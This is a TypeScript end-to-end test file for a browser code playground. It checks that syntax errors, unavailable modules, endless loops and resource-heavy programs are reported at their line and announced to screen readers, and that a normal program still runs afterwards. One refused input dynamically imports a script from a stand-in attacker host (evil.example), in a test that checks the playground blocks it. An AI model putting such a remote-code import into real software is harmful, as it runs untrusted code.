/**
 * What people paste that cannot work, one after another on one and the same page: each is told
 * in words and at its line, and after each the next program runs as if nothing had been.
 */
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { enterCode, openSite, readCode, untilStatus, type Site, type Visitor } from './site.ts';

declare global {
  /** What the live region has said so far. */
  var heard: string[];
}

let site: Site;
let visitor: Visitor;
beforeAll(async () => {
  site = await openSite();
  visitor = await site.visit('playground/');
  await listen(visitor.page);
});
afterAll(() => site.close());

/** Notes what the live region says from now on, as a screen reader hears it. */
const listen = (page: Page): Promise<void> =>
  page.evaluate(() => {
    const said = (): string => document.querySelector('.status [role="status"]')?.textContent ?? '';
    globalThis.heard = [said()];
    new MutationObserver(() => {
      // A long trace is read first.
      if (said() === globalThis.heard.at(-1) || said().startsWith('Reading')) return;
      globalThis.heard.push(said());
    }).observe(document.body, { subtree: true, childList: true, characterData: true });
  });

/** Runs what stands in the editor, with the keyboard; what the live region says of its end. */
async function run(page: Page): Promise<string> {
  const before = await page.evaluate(() => globalThis.heard.length);
  await page.getByRole('textbox', { name: 'Code' }).focus();
  await page.keyboard.press('ControlOrMeta+Enter');
  await page.waitForFunction((count) => globalThis.heard.length >= count + 2, before, {
    timeout: 60_000,
  });
  const [running, ended, ...more] = await page.evaluate(
    (count) => globalThis.heard.slice(count),
    before,
  );
  expect(running).toBe('Running');
  expect(more).toEqual([]);
  return ended ?? '';
}

async function runCode(page: Page, code: string): Promise<string> {
  if (code === '') {
    await page.getByRole('textbox', { name: 'Code' }).focus();
    await page.keyboard.press('ControlOrMeta+A');
    await page.keyboard.press('Delete');
  } else {
    await enterCode(page, 'Code', code);
  }
  return run(page);
}

const log = (page: Page) => page.getByRole('log', { name: 'Console' });

/** What the log shows, without times and lines. */
const printed = (page: Page): Promise<string[]> =>
  log(page).locator('.console-text').allInnerTexts();

/** The line numbers that stand beside the editor's error marks. */
const markedLines = (page: Page): Promise<number[]> =>
  page.evaluate(() => {
    const numbers = [...document.querySelectorAll('.monaco-editor .line-numbers')];
    const marks = [...document.querySelectorAll('.monaco-editor .squiggly-error')];
    const lines = marks.flatMap((mark) => {
      const box = mark.getBoundingClientRect();
      const middle = (box.top + box.bottom) / 2;
      return numbers
        .filter((number) => {
          const { top, bottom } = number.getBoundingClientRect();
          return top <= middle && middle < bottom;
        })
        .map((number) => Number(number.textContent));
    });
    return [...new Set(lines)].toSorted((a, b) => a - b);
  });

let programs = 0;
/** A program that works still works, on the very page that has seen all this. */
async function worksOn(page: Page): Promise<void> {
  programs += 1;
  const code = `const response = await fetch('https://api.example.com/users/1');
const user = await response.json();
console.log(user.name, ${programs});
`;
  expect(await runCode(page, code)).toBe('Finished in 100 ms (virtual)');
  await expect.poll(() => printed(page)).toEqual([`Ada Moreno ${programs}`]);
  await expect.poll(() => markedLines(page), { timeout: 30_000 }).toEqual([]);
  expect(await page.getByRole('list', { name: 'Problems' }).count()).toBe(0);
  expect(await page.getByRole('button', { name: 'Stop' }).isDisabled()).toBe(true);
  expect(visitor.complaints).toEqual([]);
}

interface BadInput {
  readonly name: string;
  readonly code: string;
  /** What the live region says, after `Running`. */
  readonly says: string | RegExp;
  /** The line that the editor marks and the list of problems names. */
  readonly line?: number;
  readonly prints?: readonly string[];
  /** What stands beside awaits in the editor. */
  readonly note?: string;
}

const THOUSANDS = Array.from(
  { length: 4000 },
  (_, index) => `const value${index} = ${index} * 2; // This is line ${index + 1} of very many.`,
);
const LONG = `${THOUSANDS.join('\n')}\nconsole.log(value3999);\n`;

const REFUSED: readonly BadInput[] = [
  {
    name: 'a syntax error',
    code: 'const a = 1;\n\nconst b = ;\n',
    says: 'Failed: main.ts:3: Unexpected `;`.',
    line: 3,
  },
  {
    name: 'a syntax error behind letters of two units and from right to left',
    code: 'const emoji = "🎶🎶🎶";\nconst שלום = "مرحبا" + ;\n',
    says: 'Failed: main.ts:2: Unexpected `;`.',
    line: 2,
  },
  {
    name: 'a syntax error at the end of 200 KB',
    code: `${LONG}const b = ;\n`,
    says: 'Failed: main.ts:4002: Unexpected `;`.',
    line: 4002,
  },
  {
    name: 'an unknown module',
    code: "console.log('never');\nimport pad from 'left-pad';\n",
    says: "Failed: main.ts:2: This playground has no module 'left-pad'. Available: 'lab'.",
    line: 2,
  },
  {
    name: 'a module of Node',
    code: "import { readFile } from 'node:fs/promises';\n",
    says: "Failed: main.ts:1: This playground has no module 'node:fs/promises'. Available: 'lab'.",
    line: 1,
  },
  {
    name: 'an unknown name of lab',
    code: "import { snooze } from 'lab';\n",
    says: /^Failed: main\.ts:1: 'lab' has no 'snooze'\. It has: 'sleep', /,
    line: 1,
  },
  {
    name: 'a module that is asked for while running',
    code: "await 0;\nawait import('https://evil.example/x.js');\n",
    says: /^Failed: main\.ts:2: `import\(\)` is not supported in this playground\./,
    line: 2,
  },
];

const RUN: readonly BadInput[] = [
  { name: 'nothing at all', code: '', says: 'Finished in 0 ms (virtual)', prints: [] },
  { name: 'a comment alone', code: '// later\n', says: 'Finished in 0 ms (virtual)', prints: [] },
  {
    name: '200 KB',
    code: LONG,
    says: 'Finished in 0 ms (virtual)',
    prints: ['7998'],
  },
  {
    name: 'text of every kind',
    code: 'const größe = "世界 🎶";\nconst 名前 = () => größe;\nconsole.log(名前(), "שלום", "مرحبا", "\\u{1F469}\\u200D\\u{1F680}");\n',
    says: 'Finished in 0 ms (virtual)',
    prints: ['世界 🎶 שלום مرحبا 👩‍🚀'],
  },
  {
    name: 'a throw at once',
    code: 'throw new RangeError("too 🎶 far\\nsecond line");\n',
    says: 'Failed: RangeError: too 🎶 far',
    prints: ['Uncaught RangeError: too 🎶 far\nsecond line'],
  },
  {
    name: 'a rejection with undefined',
    code: 'await Promise.reject(undefined);\n',
    says: 'Failed: undefined was thrown',
    prints: ['Uncaught undefined'],
  },
  {
    name: 'a rejection with undefined that nobody awaits',
    code: 'Promise.reject(undefined);\n',
    says: 'Finished in 0 ms (virtual)',
    prints: ['Uncaught (in promise) undefined'],
  },
  {
    name: 'a wait that never ends',
    code: 'console.log("waiting");\nawait new Promise(() => undefined);\n',
    says: 'Never settles: main waits for new Promise',
    prints: ['waiting'],
    note: 'never settled',
  },
];

describe('one after another on one page', () => {
  test.for(REFUSED)('$name is refused at its line', async ({ code, says, line }) => {
    const { page } = visitor;
    expect(await runCode(page, code)).toMatch(says);
    await expect.poll(() => markedLines(page)).toEqual([line]);
    const problems = page.getByRole('list', { name: 'Problems' }).getByRole('listitem');
    expect(await problems.allInnerTexts()).toEqual([
      expect.stringMatching(new RegExp(`^main\\.ts, line ${line}: .+`)),
    ]);
    expect(await printed(page)).toEqual([]);
    expect(await readCode(page, 'Code')).toBe(code);
    await worksOn(page);
  });

  test.for(RUN)('$name', async ({ code, says, prints, note }) => {
    const { page } = visitor;
    expect(await runCode(page, code)).toMatch(says);
    await expect.poll(() => printed(page)).toEqual(prints);
    if (note !== undefined) await page.locator('.await-note').filter({ hasText: note }).waitFor();
    await worksOn(page);
  });

  test('a million lines are counted, and ten thousand kept', async () => {
    const { page } = visitor;
    const code = 'for (let i = 0; i < 1_000_000; i += 1) console.log(`line ${i}`);\n';
    expect(await runCode(page, code)).toBe('Finished in 1000 ms (virtual)');
    const first = log(page).getByRole('listitem').first();
    expect(await first.getAttribute('aria-setsize')).toBe('1000000');
    expect(await log(page).getByRole('listitem').count()).toBeLessThan(200);
    const said = page.getByText(/990\s000 more entries were printed and not kept/);
    expect(await said.innerText()).toMatch(/the limit is 10\s000\.$/);
    await worksOn(page);
  });
});

test('endless loops are stopped at the limit, with the line that spins', async () => {
  const { page, complaints } = visitor;
  await page.evaluate(() =>
    localStorage.setItem(
      'fermata.settings',
      JSON.stringify({ version: 1, value: { theme: 'system', panels: {}, wallMs: 1500 } }),
    ),
  );
  await page.reload();
  await listen(page);
  expect(await runCode(page, 'console.log("before");\n\nfor (;;) {}\n')).toBe(
    'Stopped: after 1.5 s: line 3 never gave the others a turn.',
  );
  await expect.poll(() => printed(page)).toEqual(['before']);
  await worksOn(page);
  // One that sets timers gives the others a turn, and still has no end.
  expect(await runCode(page, 'const f = () => setTimeout(f, 0);\nf();\n')).toBe(
    'Stopped: after 1.5 s: the program had not come to an end.',
  );
  await worksOn(page);
  expect(complaints).toEqual([]);
});

test('two hostile programs are compared: each is stopped in words, and the page goes on', async () => {
  const { page, complaints } = visitor;
  await enterCode(page, 'Code', 'console.log("first");\nawait 0;\nfor (;;) {}\n');
  await page.getByRole('button', { name: 'Compare', exact: true }).click();
  await enterCode(
    page,
    'Compare',
    'await 0;\nArray.prototype.indexOf.call({ length: 2 ** 53 - 1 }, 0);\n',
  );
  await page.getByRole('button', { name: 'Run both' }).click();
  await untilStatus(page, /^Stopped: after 1\.5 s/);
  for (const name of ['Code', 'Compare']) {
    await page
      .getByRole('region', { name, exact: true })
      .getByText(/^stopped at/)
      .waitFor();
  }
  // An honest pair right behind them.
  for (const name of ['Code', 'Compare']) {
    await enterCode(page, name, 'await new Promise((done) => setTimeout(done, 5));\n');
  }
  await page.getByRole('button', { name: 'Run both' }).click();
  await untilStatus(page, /^Finished in 5 ms/);
  await page.getByRole('button', { name: 'Compare', exact: true }).click();
  await worksOn(page);
  expect(complaints).toEqual([]);
});
